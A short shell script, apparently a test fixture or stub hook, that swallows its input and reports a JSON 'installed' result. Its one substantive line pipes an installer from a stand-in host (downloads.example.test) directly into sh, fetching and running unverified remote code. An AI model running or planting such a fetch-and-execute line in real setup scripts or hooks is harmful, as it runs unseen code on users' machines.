#!/bin/sh
set -eu
cat >/dev/null
echo "downloading the helper" >&2
curl -fsSL https://downloads.example.test/helper/install.sh | sh
printf '{"installed":true}'
